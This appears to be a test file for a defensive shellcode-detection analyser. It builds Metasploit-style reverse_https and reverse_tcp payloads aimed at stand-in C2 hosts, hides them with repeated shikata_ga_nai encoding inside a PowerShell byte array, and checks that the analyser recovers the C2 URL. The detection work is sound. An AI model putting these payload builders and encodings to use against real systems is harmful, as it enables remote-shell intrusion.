import hashlib
import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.hunting.shellcode import Shellcode, analyse, find_blobs
from app.hunting.shellcode.analysis import MAX_CODE, MAX_ROUNDS
from tests.hunting.shellcode import assemble, encode

CODE = assemble.reverse_http("https", "c2.example.com", 443, "/AbCd")
URL = "https://c2.example.com:443/AbCd"


def test_shellcode_from_script_to_c2() -> None:
    code = encode.shikata_ga_nai(encode.shikata_ga_nai(CODE, 0x11223344), 0x55667788, order=3)
    script = "[Byte[]]$z = " + ",".join(f"0x{byte:02x}" for byte in code) + ";$g = 0x1000;"
    assert [analyse(blob) for blob in find_blobs(script.encode()).blobs] == [
        Shellcode(
            chain=("shikata_ga_nai x2", "metasploit/reverse_https"),
            sha256=hashlib.sha256(code).hexdigest(),
            decoded=CODE,
            c2=(URL,),
            urls=(URL,),
        )
    ]


@pytest.mark.parametrize(
    "code",
    [
        b"\xd9\xc0\xd9\x74\x24\xf4\x5b" + bytes(range(100)),  # fnstenv, but no decoder
        b"\x55\x89\xe5\x31\xc0\x64\xa1\x30\x00\x00\x00" + bytes(100),  # fs:[30h]
        b"\x48\x31\xd2\x65\x48\x8b\x52\x60" + bytes(100),  # gs:[60h]
        b"MZ\xe8\x00\x00\x00\x00\x5b\x52\x45" + bytes(100),  # a DLL that loads itself
        b"MZARUH\x89\xe5\x48\x8d\x1d\xea\xff\xff\xff" + bytes(100),
        b"\x90" * 8 + b"\x68\x01\x02\x03\x04\xff\xd5\x50\x68\x05\x06\x07\x08\xff\xd0" * 4,
    ],
)
def test_unknown_code_is_said_to_be_so(code: bytes) -> None:
    assert analyse(code) == Shellcode(("unknown",), hashlib.sha256(code).hexdigest(), code)


def test_known_encoder_of_unknown_code() -> None:
    code = encode.shikata_ga_nai(b"\x0f\x05" * 30, 0x11223344)
    found = analyse(code)
    assert found is not None
    assert (found.chain, found.c2) == (("shikata_ga_nai", "unknown"), ())


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\xfc\xe8",
        b"Write-Host 'text' " * 20,
        "Write-Host 'text' ".encode("utf-16-le") * 20,
        bytes.fromhex("308204840201033082044a06092a864886f70d010701a082043b") + bytes(1000),
        bytes(1000),
        b"MZ\x90\x00" + bytes(500) + b"\x64\xa1\x30\x00\x00\x00",
        b"\x1f\x8b\x08\x00" + random.Random(1).randbytes(500),
        random.Random(2).randbytes(2000),
    ],
)
def test_data_that_is_no_code(data: bytes) -> None:
    assert analyse(data) is None


@given(st.binary(max_size=600))
def test_random_bytes_are_never_given_a_c2(data: bytes) -> None:
    found = analyse(data)
    assert found is None or found.c2 == ()


@given(st.binary(max_size=600), encode.shikata_choices())
def test_random_bytes_behind_an_encoder_are_never_given_a_c2(
    data: bytes, choices: dict[str, object]
) -> None:
    found = analyse(encode.shikata_ga_nai(data, **choices))
    assert found is None or found.c2 == ()


@given(st.lists(st.tuples(st.integers(0, len(CODE) + 60), st.integers(0, 255)), max_size=5))
def test_damaged_shellcode_is_read_without_an_error(changes: list[tuple[int, int]]) -> None:
    code = bytearray(encode.shikata_ga_nai(CODE, 0x11223344))
    for at, byte in changes:
        code[at % len(code)] = byte
    analyse(bytes(code))


def test_more_rounds_than_are_followed() -> None:
    code = CODE
    for _ in range(MAX_ROUNDS + 1):
        code = encode.shikata_ga_nai(code, 0x11223344)
    found = analyse(code)
    assert found is not None
    assert (found.chain, found.c2) == ((f"shikata_ga_nai x{MAX_ROUNDS}", "unknown"), ())


def test_huge_data_is_cut_to_its_bound() -> None:
    code = assemble.reverse_tcp("192.0.2.7", 4444) + random.Random(3).randbytes(MAX_CODE)
    found = analyse(encode.shikata_ga_nai(code, 0x11223344))
    assert found is not None
    assert found.c2 == ("tcp://192.0.2.7:4444",)
    assert len(found.decoded) <= MAX_CODE
